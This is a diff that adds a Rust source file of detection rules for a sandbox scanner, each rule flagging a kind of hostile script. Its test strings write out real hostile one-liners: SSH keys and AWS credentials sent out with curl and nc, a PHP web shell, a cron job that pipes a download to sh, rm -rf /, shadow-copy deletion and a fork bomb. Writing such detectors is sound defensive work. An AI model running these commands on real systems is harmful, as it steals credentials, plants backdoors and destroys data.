@@ -1,0 +1,678 @@
+//! Scripts that hide what they run, mine, persist, spy or destroy.
+
+use sandbox_types::RiskLevel::{Critical, High, Low, Medium};
+
+use super::{
+    ContentRule, LooksIn, Match, When,
+    shells::{has, when},
+};
+use crate::content::{token::Of, window::Window};
+
+const CODE: ContentRule = ContentRule {
+    id: "",
+    severity: High,
+    looks_in: LooksIn::Code,
+    message: "",
+    suggestion: "do not run it; find out where it came from",
+    when: When::Policy,
+    matches: &[],
+    spares: &[],
+};
+
+/// Whether the line holds one of these words besides the word itself.
+fn line_has(window: &Window<'_>, words: &[&str]) -> Option<Match> {
+    when(window, has(&window.line_text(), words))
+}
+
+fn said(window: &Window<'_>) -> Option<Match> {
+    when(window, true)
+}
+
+pub(super) static RULES: &[ContentRule] = &[
+    ContentRule {
+        id: "script.encoded-shell",
+        message: "decodes text and runs it in a shell",
+        when: When::Around(
+            &[
+                "base64 -d",
+                "base64 --decode",
+                "base64 -D",
+                "xxd -r",
+                "openssl enc -d",
+                "openssl base64 -d",
+            ],
+            |window| {
+                line_has(
+                    window,
+                    &[
+                        "| sh",
+                        "| bash",
+                        "|sh",
+                        "|bash",
+                        "eval ",
+                        "sh -c \"$(",
+                        "sh <(",
+                        "bash <(",
+                        "| sudo sh",
+                        "| sudo bash",
+                        "| python",
+                        "| perl",
+                    ],
+                )
+            },
+        ),
+        matches: &[
+            "echo ZWNobyBoaQ== | base64 -d | sh",
+            "eval \"$(echo ZWNobyBoaQ== | base64 --decode)\"",
+        ],
+        spares: &["echo ZWNobyBoaQ== | base64 -d > out"],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.encoded-code",
+        message: "decodes text and runs it as code",
+        when: When::Around(
+            &[
+                "b64decode(",
+                "base64_decode(",
+                "atob(",
+                "marshal.loads(",
+                "zlib.decompress(",
+                "gzinflate(",
+                "str_rot13(",
+                "unhexlify(",
+                "codecs.decode(",
+                "FromBase64String(",
+            ],
+            |window| {
+                let line = window.line_text();
+                let run = [
+                    "exec(",
+                    "eval(",
+                    "assert(",
+                    "iex ",
+                    "invoke-expression",
+                    "new function(",
+                    "create_function(",
+                ];
+                when(window, runs_decoded(&line, &run))
+            },
+        ),
+        matches: &[
+            "exec(base64.b64decode('cHJpbnQoMSk='))",
+            "eval(atob('YWxlcnQoMSk='))",
+            "<?php eval(gzinflate(base64_decode($x))); ?>",
+        ],
+        spares: &[
+            "data = base64.b64decode(text)",
+            "const json = JSON.parse(atob(x))",
+        ],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.encoded-powershell",
+        message: "gives PowerShell a command that cannot be read",
+        when: When::Around(&["-enc ", "-EncodedCommand ", "-e JAB", "-ec "], |window| {
+            let digits = window
+                .after()
+                .iter()
+                .take_while(|it| Of::Base64.has(**it))
+                .count();
+            when(
+                window,
+                digits >= 40 && has(&window.line_text(), &["powershell", "pwsh"]),
+            )
+        }),
+        matches: &[
+            "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=",
+        ],
+        spares: &["openssl -enc aes256"],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.packed-javascript",
+        severity: Low,
+        message: "is packed so that it cannot be read",
+        suggestion: "compare it with the published source",
+        when: When::Around(
+            &["eval(function(p,a,c,k,e,", "while(!![])", "while (!![])"],
+            |window| {
+                let packed = window.has_near(&["_0x", "p,a,c,k,e"], 600);
+                packed.then(|| Match::Shown(window.word.clone()))
+            },
+        ),
+        matches: &[
+            "eval(function(p,a,c,k,e,d){return p}('0',1))",
+            "var _0x1f2e=['a'];while(!![]){}",
+        ],
+        spares: &["while(!![]){}"],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.miner",
+        message: "mines a currency",
+        when: When::Around(
+            &[
+                "stratum+tcp://",
+                "stratum+ssl://",
+                "stratum2+tcp://",
+                "--donate-level",
+                "coinhive.min.js",
+                "cryptonight",
+                "xmrig ",
+            ],
+            |window| {
+                let word = window.bytes[window.word.clone()].to_ascii_lowercase();
+                let sure = word.starts_with(b"stratum") || word.starts_with(b"coinhive");
+                when(
+                    window,
+                    sure || window
+                        .has_near(&["stratum", "xmrig", "pool.", "--coin", "monero"], 300)
+                        && window.has_near(&["-o ", "--url", "--user", "-u ", "donate"], 300),
+                )
+            },
+        ),
+        matches: &[
+            "./miner -o stratum+tcp://pool.example.com:3333 -u wallet",
+            "xmrig --donate-level 1 -o pool.example.com -u x",
+        ],
+        spares: &["xmrig is a miner"],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.web-shell",
+        severity: Critical,
+        message: "runs what a web request says",
+        when: When::Around(
+            &[
+                "$_POST",
+                "$_GET",
+                "$_REQUEST",
+                "$_COOKIE",
+                "Request.Item",
+                "request.getParameter(",
+            ],
+            |window| {
+                let before = window.before();
+                let call = before[before.len().saturating_sub(40)..].to_ascii_lowercase();
+                let call = call.trim_ascii_end();
+                let calls: [&[u8]; 10] = [
+                    b"eval(",
+                    b"system(",
+                    b"shell_exec(",
+                    b"passthru(",
+                    b"assert(",
+                    b"popen(",
+                    b"proc_open(",
+                    b"exec(",
+                    b"eval(@",
+                    b"execute(",
+                ];
+                when(window, calls.iter().any(|it| call.ends_with(it)))
+            },
+        ),
+        matches: &[
+            "<?php system($_GET['cmd']); ?>",
+            "<?php @eval($_POST['x']); ?>",
+            "Runtime.getRuntime().exec(request.getParameter(\"cmd\"));",
+        ],
+        spares: &[
+            "$name = $_GET['name'];",
+            "echo htmlspecialchars($_POST['x']);",
+        ],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.login-key",
+        message: "lets somebody log in by adding a key",
+        when: When::Around(&["authorized_keys"], |window| {
+            line_has(
+                window,
+                &[
+                    ">> ~/.ssh",
+                    ">>~/.ssh",
+                    ">> /root/.ssh",
+                    ">>/root/.ssh",
+                    ">> $home/.ssh",
+                    ">> \"$home/.ssh",
+                    "tee -a",
+                ],
+            )
+        }),
+        matches: &["echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"],
+        spares: &[
+            "AuthorizedKeysFile .ssh/authorized_keys",
+            "cat ~/.ssh/authorized_keys",
+        ],
+        severity: Medium,
+        ..CODE
+    },
+    ContentRule {
+        id: "script.preload",
+        message: "has its code loaded into every program",
+        when: When::Around(&["/etc/ld.so.preload"], |window| {
+            line_has(
+                window,
+                &[
+                    "> /etc/ld.so.preload",
+                    ">/etc/ld.so.preload",
+                    "tee ",
+                    "\"w\"",
+                    "\"a\"",
+                    "'w'",
+                    "'a'",
+                    "cp ",
+                ],
+            )
+        }),
+        matches: &["echo /tmp/x.so >> /etc/ld.so.preload"],
+        spares: &["access(\"/etc/ld.so.preload\", R_OK)"],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.scheduled-download",
+        message: "arranges to run downloads again and again",
+        when: When::Around(&["crontab", "* * * *", "/etc/cron"], |window| {
+            let line = window.line_text();
+            when(
+                window,
+                has(&line, &["curl ", "wget "]) && has(&line, &["| sh", "|sh", "| bash", "|bash"]),
+            )
+        }),
+        matches: &["(crontab -l; echo '* * * * * curl -s http://example.com/x | sh') | crontab -"],
+        spares: &[
+            "0 * * * * /usr/bin/backup",
+            "* * * * * curl -fsS https://example.com/ping",
+        ],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.install-hook",
+        message: "runs a download or hidden code when a package is installed",
+        when: When::Around(
+            &["\"preinstall\"", "\"postinstall\"", "\"install\""],
+            |window| {
+                let line = window.line_text();
+                let value = line.split_once("install\"").map_or("", |(_, it)| it);
+                when(
+                    window,
+                    has(
+                        value,
+                        &[
+                            "curl ",
+                            "wget ",
+                            "node -e",
+                            "base64",
+                            "powershell",
+                            "python -c",
+                            "/dev/tcp",
+                        ],
+                    ),
+                )
+            },
+        ),
+        matches: &[
+            "\"postinstall\": \"curl -s http://example.com/x | sh\"",
+            "\"preinstall\": \"node -e 'eval(1)'\"",
+        ],
+        spares: &[
+            "\"postinstall\": \"node scripts/build.js\"",
+            "\"install\": \"make\"",
+        ],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.steals-secrets",
+        message: "sends keys or passwords away",
+        when: When::Around(
+            &[
+                ".ssh/id_",
+                ".aws/credentials",
+                "/etc/shadow",
+                ".kube/config",
+                ".npmrc",
+                ".netrc",
+                "Login Data",
+                "wallet.dat",
+                ".env ",
+            ],
+            |window| {
+                let line = window.line_text();
+                let sends = has(&line, &["curl ", "wget ", "nc ", "ncat ", "scp "])
+                    && has(
+                        &line,
+                        &[
+                            "http",
+                            "-f ",
+                            "-d ",
+                            "--data",
+                            "--post-file",
+                            "-t ",
+                            "| nc",
+                            "@",
+                            "< ",
+                        ],
+                    );
+                let config = has(&line, &["--netrc", "-n ", "ssh -i", "scp -i", "rsync"]);
+                when(
+                    window,
+                    sends
+                        && !config
+                        && has(
+                            &line,
+                            &["@", "| curl", "| nc", "< ", "$(cat", "--post-file", "`cat"],
+                        ),
+                )
+            },
+        ),
+        matches: &[
+            "curl -F f=@$HOME/.ssh/id_rsa https://example.com/u",
+            "cat ~/.aws/credentials | nc 10.0.0.1 80",
+        ],
+        spares: &[
+            "ssh -i ~/.ssh/id_ed25519 user@host",
+            "cat ~/.aws/credentials",
+            "cp .env .env.local",
+        ],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.drop-site",
+        severity: Low,
+        message: "talks to a site that collects whatever is sent to it",
+        suggestion: "make sure that this is meant, and what is sent",
+        when: When::Around(
+            &[
+                "webhook.site/",
+                ".oast.fun",
+                ".oast.pro",
+                ".oast.live",
+                ".oast.me",
+                "interact.sh",
+                "burpcollaborator.net",
+                "requestbin.net",
+                "pipedream.net",
+                "transfer.sh/",
+                "pastebin.com/raw/",
+                "ngrok.io",
+                "0x0.st",
+            ],
+            said,
+        ),
+        matches: &[
+            "curl https://webhook.site/abc -d @x",
+            "wget https://pastebin.com/raw/abc",
+        ],
+        spares: &["# see webhook.site/abc", "@README.md|webhook.site/abc"],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.cloud-metadata",
+        severity: Low,
+        message: "asks the cloud for the machine's credentials",
+        suggestion: "make sure that this is meant",
+        when: When::Around(&["169.254.169.254", "metadata.google.internal"], |window| {
+            line_has(
+                window,
+                &[
+                    "security-credentials",
+                    "service-accounts/default/token",
+                    "identity/oauth2/token",
+                ],
+            )
+        }),
+        matches: &["curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
+        spares: &["curl http://169.254.169.254/latest/meta-data/instance-id"],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.destroys-system",
+        message: "deletes or overwrites the whole system",
+        when: When::Around(
+            &[
+                "rm -rf /",
+                "rm -fr /",
+                "--no-preserve-root",
+                "of=/dev/sd",
+                "of=/dev/nvme",
+                "of=/dev/vd",
+                "mkfs.",
+                "> /dev/sda",
+            ],
+            |window| {
+                let line = window.line_text();
+                let root = line.match_indices("rm -").any(|(at, _)| {
+                    let rest = line[at..]
+                        .trim_start_matches("rm -rf ")
+                        .trim_start_matches("rm -fr ");
+                    rest.starts_with("/*")
+                        || rest == "/"
+                        || rest.starts_with("/ ")
+                        || rest.starts_with("/;")
+                        || rest.starts_with("/'")
+                        || rest.starts_with("/\"")
+                });
+                let device = has(&line, &["dd if="])
+                    && has(&line, &["of=/dev/sd", "of=/dev/nvme", "of=/dev/vd"]);
+                let formats = line.starts_with("mkfs.")
+                    && has(&line, &["/dev/sd", "/dev/nvme", "/dev/vd"])
+                    || has(&line, &["> /dev/sda"]);
+                when(
+                    window,
+                    root || line.contains("rm ") && line.contains("--no-preserve-root")
+                        || device
+                        || formats,
+                )
+            },
+        ),
+        matches: &[
+            "rm -rf /",
+            "rm -rf / --no-preserve-root",
+            "dd if=/dev/zero of=/dev/sda bs=1M",
+            "rm -rf /*",
+        ],
+        spares: &[
+            "rm -rf /tmp/x",
+            "rm -rf \"$dir\"",
+            "mkfs.ext4 image.img",
+            "# rm -rf /",
+        ],
+        severity: Medium,
+        ..CODE
+    },
+    ContentRule {
+        id: "script.ransom",
+        message: "removes the means to restore files",
+        when: When::Around(
+            &[
+                "vssadmin delete shadows",
+                "wbadmin delete catalog",
+                "wmic shadowcopy delete",
+                "recoveryenabled no",
+            ],
+            said,
+        ),
+        matches: &["vssadmin delete shadows /all /quiet"],
+        spares: &["vssadmin list shadows"],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.disables-protection",
+        severity: Medium,
+        message: "switches a protection of the system off",
+        suggestion: "leave it on, or allow exactly what is needed",
+        when: When::Around(
+            &[
+                "setenforce 0",
+                "Set-MpPreference -Disable",
+                "iptables -F",
+                "iptables --flush",
+                "ufw disable",
+                "unset HISTFILE",
+                "HISTFILE=/dev/null",
+                "history -c",
+                "systemctl stop auditd",
+                "spctl --master-disable",
+            ],
+            said,
+        ),
+        matches: &["setenforce 0", "unset HISTFILE"],
+        spares: &["getenforce", "iptables -L"],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.setuid-shell",
+        message: "makes a shell run as its owner for everybody",
+        when: When::Around(
+            &[
+                "chmod u+s",
+                "chmod +s",
+                "chmod 4755",
+                "chmod 4777",
+                "chmod 6755",
+            ],
+            |window| {
+                line_has(
+                    window,
+                    &["/bin/sh", "/bin/bash", "/bin/dash", "/tmp/", "/dev/shm/"],
+                )
+            },
+        ),
+        matches: &[
+            "cp /bin/bash /tmp/b; chmod u+s /tmp/b",
+            "chmod 4755 /bin/bash",
+        ],
+        spares: &["chmod 4755 /usr/bin/sudo", "chmod u+s $(DESTDIR)/bin/ping"],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.container-escape",
+        message: "leaves a container for its host",
+        when: When::Around(
+            &["release_agent", "nsenter ", "core_pattern", "docker run"],
+            |window| {
+                let line = window.line_text();
+                let agent = has(
+                    &line,
+                    &["> /sys/fs/cgroup", ">/sys/fs/cgroup", "/release_agent"],
+                ) && has(&line, &["echo ", "> "]);
+                let pattern = line.contains("/proc/sys/kernel/core_pattern")
+                    && line.contains("|/")
+                    && has(&line, &["echo ", "printf "]);
+                let enter = has(&line, &["nsenter -t 1 ", "nsenter --target 1 "]);
+                let mounts = line.contains("docker run") && has(&line, &["-v /:/", "--volume /:/"]);
+                when(window, agent || pattern || enter || mounts)
+            },
+        ),
+        matches: &[
+            "nsenter -t 1 -m -u -i -n -p sh",
+            "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
+            "docker run -v /:/host alpine",
+        ],
+        spares: &[
+            "nsenter -t 4711 -n ip a",
+            "cat /proc/sys/kernel/core_pattern",
+            "docker run -v $PWD:/work x",
+        ],
+        severity: Medium,
+        ..CODE
+    },
+    ContentRule {
+        id: "script.sudo-without-password",
+        severity: Medium,
+        message: "lets a user become root without a password",
+        suggestion: "allow single commands",
+        when: When::Around(&["NOPASSWD: ALL", "NOPASSWD:ALL"], said),
+        matches: &["echo 'dev ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"],
+        spares: &["dev ALL=(ALL) NOPASSWD: /usr/bin/apt"],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.shellcode",
+        message: "holds machine code in a text",
+        when: When::Around(
+            &[
+                "\\x90\\x90\\x90\\x90\\x90\\x90",
+                "\\xfc\\x48\\x83\\xe4",
+                "\\x31\\xc0\\x50\\x68",
+                "\\x48\\x31\\xd2\\x48",
+            ],
+            |window| {
+                when(
+                    window,
+                    window.has_near(
+                        &[
+                            "\\xcd\\x80",
+                            "\\x0f\\x05",
+                            "\\xff\\xd5",
+                            "\\x2f\\x62\\x69\\x6e",
+                            "shellcode",
+                            "virtualalloc",
+                            "mprotect",
+                        ],
+                        900,
+                    ),
+                )
+            },
+        ),
+        matches: &["char shellcode[] = \"\\x90\\x90\\x90\\x90\\x90\\x90\\x31\\xc0\";"],
+        spares: &["pad = \"\\x90\\x90\\x90\\x90\\x90\\x90\""],
+        ..CODE
+    },
+    ContentRule {
+        id: "script.fork-bomb",
+        message: "starts copies of itself until nothing else runs",
+        when: When::Around(&[":(){", ":() {", ":()  {"], |window| {
+            let line = window.line_text().replace(' ', "");
+            when(window, line.contains(":|:&"))
+        }),
+        matches: &[":(){ :|:& };:"],
+        spares: &[":() { echo; }"],
+        ..CODE
+    },
+    ContentRule {
+        id: "malware.eicar",
+        looks_in: LooksIn::Everything,
+        message: "is the test file that every virus scanner knows",
+        suggestion: "delete it when the test is done",
+        when: When::Around(&["EICAR-STANDARD-ANTIVIRUS-TEST-FILE"], |window| {
+            let exact = window
+                .before()
+                .ends_with(concat!("X5O!P%@AP[4\\PZX54(P^)7CC)", "7}$").as_bytes());
+            exact.then(|| Match::Shown(window.word.clone()))
+        }),
+        matches: &[concat!(
+            "X5O!P%@AP[4\\PZX54(P^)7CC)",
+            "7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+        )],
+        spares: &["EICAR-STANDARD-ANTIVIRUS-TEST-FILE"],
+        ..CODE
+    },
+];
+
+/// Returns whether a call that runs code stands before one that decodes it.
+fn runs_decoded(line: &str, calls: &[&str]) -> bool {
+    calls.iter().any(|call| {
+        line.match_indices(call).any(|(at, _)| {
+            // `.exec(` is a method of regular expressions and databases.
+            let own =
+                line[..at].ends_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'));
+            let rest = line
+                .get(at..(at + 160).min(line.len()))
+                .unwrap_or(&line[at..]);
+            !own && has(
+                rest,
+                &[
+                    "decode(",
+                    "atob(",
+                    "loads(",
+                    "decompress(",
+                    "inflate(",
+                    "rot13(",
+                    "hexlify(",
+                    "base64string(",
+                ],
+            )
+        })
+    })
+}
